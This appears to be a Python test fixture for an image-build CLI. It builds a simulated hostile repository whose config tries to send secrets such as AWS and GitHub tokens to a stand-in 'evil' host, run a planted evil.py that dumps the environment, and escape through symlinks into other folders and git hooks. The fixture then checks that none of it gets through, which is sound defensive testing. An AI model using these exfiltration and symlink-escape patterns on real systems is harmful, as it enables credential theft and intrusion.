"""A stranger's repository that tries everything at once, and what would show that it came through."""

from __future__ import annotations

import io
import subprocess
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import click
from msgspec import Struct, field

from imagebuild.cli.application import program, run
from imagebuild.cli.catalog import COMMANDS
from imagebuild.cli.shell import Shell
from imagebuild.testing import png

SECRETS = {
    "OPENAI_API_KEY": "sk-proj-Zq3vT9LmX2bRk7WdHs5YcJf8Ng4Pe6Ua",
    "AWS_ACCESS_KEY_ID": "stranger-wants-this-access-key",
    "AWS_SECRET_ACCESS_KEY": "stranger-wants-this-secret-key",
    "GITHUB_TOKEN": "stranger-wants-this-token",
    "IMAGEBUILD_C2PA_KEY": "stranger-wants-this-signing-key",
}

RUNS = "import os, pathlib\npathlib.Path({sentinel!r}).write_text(repr(dict(os.environ)))\n"
"""Python that leaves a trace when it is run."""

LOUD = """\
version: 1
plugins: [./evil.py]
providers:
  openai: {{profile: openai, base_url: "{url}/v1?key=${{AWS_SECRET_ACCESS_KEY}}", price: 0}}
budget: {{max_cost: 1000}}
store: {{remote: "s3://evil/${{GITHUB_TOKEN}}", mode: write, endpoint: "{url}"}}
targets:
  hill: {{provider: openai, prompt: "{{% for i in range(9) %}}a hill {{% endfor %}}", alt: {{generate: true}}}}
  lake:
    provider: sketch
    prompt: a lake
    steps: [{{sign: {{certificate: {{file: chain.pem}}, timestamp: "{url}/tsa"}}}}]
    checks: [{{custom: {{script: {{file: evil.py}}}}}}]
publish:
  - command: [python3, evil.py]
  - s3: {{url: "s3://evil/${{IMAGEBUILD_C2PA_KEY}}", endpoint: "{url}"}}
  - git: {{repository: "{url}/evil.git"}}
  - folder: {{path: public}}
"""
"""Everything that is refused."""

QUIET = """\
version: 1
providers:
  openai: {{profile: openai, base_url: "{url}/v1", price: 0}}
budget: {{max_cost: 1000}}
store: {{remote: "s3://evil/x", mode: write, endpoint: "{url}"}}
targets:
  hill: {{provider: openai, prompt: a hill, alt: {{generate: true}}}}
  lake: {{provider: sketch, prompt: a lake, options: {{size: 64x64}}}}
  pond: {{provider: sketch, prompt: a pond, options: {{size: 64x64}}, output: "outside/{{{{ id }}}}.{{{{ ext }}}}"}}
  moor: {{provider: sketch, prompt: a moor, options: {{size: 64x64}}, output: "hooks/{{{{ id }}}}"}}
publish:
  - s3: {{url: "s3://evil/x", endpoint: "{url}"}}
  - git: {{repository: "{url}/evil.git"}}
  - folder: {{path: public}}
"""
"""Nothing that a spec may not say, and yet it would spend, send keys to the stranger and write elsewhere."""


class Server(Struct):
    """An address of the stranger's; ``heard`` are the requests that came."""

    url: str = ""
    heard: list[str] = field(default_factory=list)


@contextmanager
def serving() -> Iterator[Server]:
    """A server on this machine that notes every request and grants none."""
    server = Server()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            server.heard.append(f"{self.command} {self.path} {self.headers.get('Authorization', '')}")
            self.send_error(401)

        do_POST = do_PUT = do_HEAD = do_DELETE = do_GET  # noqa: N815 - names of http.server

        def log_message(self, *args: object) -> None:
            return

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as http:
        server.url = f"http://127.0.0.1:{http.server_port}"
        thread = threading.Thread(target=http.serve_forever, args=(0.01,), daemon=True)
        thread.start()
        try:
            yield server
        finally:
            http.shutdown()
            thread.join()


class Answer(Struct, frozen=True):
    code: int
    text: str


class Checkout(Struct):
    """A checkout of the stranger's repository in ``base``, beside which lie a folder of others and the store."""

    base: Path
    server: Server

    @property
    def root(self) -> Path:
        return self.base / "checkout"

    @property
    def sentinel(self) -> Path:
        return self.base / "it-ran"

    def make(self, spec: str) -> Checkout:
        """Commit the stranger's files."""
        self.root.mkdir()
        (self.base / "others").mkdir()
        (self.base / "others" / "note.txt").write_text(f"login {SECRETS['GITHUB_TOKEN']}\n")
        source = RUNS.format(sentinel=str(self.sentinel))
        self.write(
            {
                "imagebuild.yaml": spec.format(url=self.server.url),
                "evil.py": source,
                "chain.pem": "-",
                "a.png": png(8, 8),
            }
        )
        (self.root / "outside").symlink_to(self.base / "others")
        (self.root / "hooks").symlink_to(".git/hooks")
        self.git("init", "-q")
        self.git("add", "-A")
        self.git("-c", "user.name=s", "-c", "user.email=s@example.com", "commit", "-qm", "evil")
        return self

    def write(self, files: Mapping[str, str | bytes]) -> None:
        for name, data in files.items():
            path = self.root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data.encode() if isinstance(data, str) else data)

    def git(self, *words: str) -> None:
        subprocess.run(["git", "-C", str(self.root), *words], check=True, capture_output=True)

    def call(self, *args: str, **environ: str) -> Answer:
        """One command as CI would call it, with all secrets there."""
        stdin, out, err = io.StringIO("y\n" * 9), io.StringIO(), io.StringIO()
        known = {"IMAGEBUILD_HOME": str(self.base / "home"), "HOME": str(self.base), "PATH": "/usr/bin:/bin", "CI": "1"}
        shell = Shell(stdin, out, err, {**known, **SECRETS, **environ}, folder=str(self.root), sleep=lambda _: None)
        return Answer(run(args, shell), out.getvalue() + err.getvalue())

    def traces(self) -> list[str]:
        """What shows that something came through: code that ran, requests, files of others, secrets in files."""
        found = ["its code ran"] if self.sentinel.exists() else []
        found += self.server.heard
        others = sorted(path.name for path in (self.base / "others").iterdir())
        found += [] if others == ["note.txt"] else [f"files of others: {others}"]
        hooks = self.root / ".git" / "hooks"
        found += [str(path) for path in hooks.iterdir() if path.suffix != ".sample"]
        for folder in (self.root, self.base / "home"):
            files = [path for path in folder.rglob("*") if path.is_file() and not path.is_symlink()]
            found += [f"a secret in {path}" for path in files if told(path.read_bytes().decode("latin-1"))]
        return found


def told(text: str) -> list[str]:
    """The names of the secrets that a text holds."""
    return [name for name, value in SECRETS.items() if value in text]


def calls() -> list[tuple[str, ...]]:
    """Every command there is, and every one below it, with arguments made up for those that want some."""
    context = click.Context(program, info_name="imagebuild")
    found: list[tuple[str, ...]] = []
    for name in COMMANDS:
        command = program.get_command(context, name)
        assert command is not None
        found.append((name, *_arguments(command)))
        below = command.commands if isinstance(command, click.Group) else {}
        found += ((name, verb, *_arguments(each)) for verb, each in below.items())
    return found


def _arguments(command: click.Command) -> list[str]:
    words: list[str] = []
    for param in command.params:
        if not param.required:
            continue
        if isinstance(param.type, click.Choice):
            value = str(param.type.choices[0])
        elif isinstance(param.type, click.types.IntParamType | click.types.FloatParamType):
            value = "1"
        else:
            is_file = isinstance(param.type, click.Path) or param.name in ("file", "archive", "path")
            value = "a.png" if is_file else "lake"
        words += [param.opts[0], value] if isinstance(param, click.Option) else [value]
    return words
